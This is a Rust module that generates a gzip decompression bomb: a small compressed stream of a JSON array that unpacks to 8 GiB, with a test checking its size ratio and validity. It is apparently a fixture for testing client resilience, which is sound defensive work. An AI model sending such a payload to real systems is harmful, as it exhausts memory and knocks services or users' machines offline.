//! A body that is small on the line and large when it is unpacked.

use std::io::Write;
use std::mem;

use flate2::Compression;
use flate2::write::GzEncoder;

/// How large it is when unpacked: more than any client should take, and what a machine with little memory does not have.
const UNPACKED: u64 = 8 << 30;

/// The records of the bomb at a time: enough that each write gives something for the line.
const PIECE: usize = 512 << 10;

const MEMORY: &str = "invariant: writing to memory does not fail";

/// The pieces of a gzip stream (RFC 1952) whose content is one JSON array. Each is made when it is asked for.
pub(crate) struct Bomb {
    encoder: Option<GzEncoder<Vec<u8>>>,
    records: Vec<u8>,
    left: u64,
}

impl Bomb {
    pub(crate) fn new() -> Self {
        Self::of(UNPACKED)
    }

    fn of(unpacked: u64) -> Self {
        let record = format!(r#"{{"name":"{}"}},"#, " ".repeat(4000)).into_bytes();
        let records = record.iter().copied().cycle().take(PIECE / record.len() * record.len()).collect();
        let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
        encoder.write_all(b"[").expect(MEMORY);
        Self { encoder: Some(encoder), records, left: unpacked }
    }
}

impl Iterator for Bomb {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        let encoder = self.encoder.as_mut()?;
        while self.left > 0 {
            encoder.write_all(&self.records).expect(MEMORY);
            self.left = self.left.saturating_sub(self.records.len() as u64);
            if !encoder.get_ref().is_empty() {
                return Some(mem::take(encoder.get_mut()));
            }
        }
        let mut encoder = self.encoder.take()?;
        encoder.write_all(b"{}]").expect(MEMORY);
        encoder.finish().ok()
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn it_is_an_array_that_is_small_on_the_line() {
        let packed: Vec<u8> = Bomb::of(64 << 20).flatten().collect();
        let mut unpacked = String::new();
        GzDecoder::new(packed.as_slice()).read_to_string(&mut unpacked).expect("it is gzip");
        assert!(unpacked.len() >= 64 << 20 && packed.len() < unpacked.len() / 100);
        assert!(serde_json::from_str::<Vec<serde_json::Map<_, _>>>(&unpacked).is_ok());
    }
}
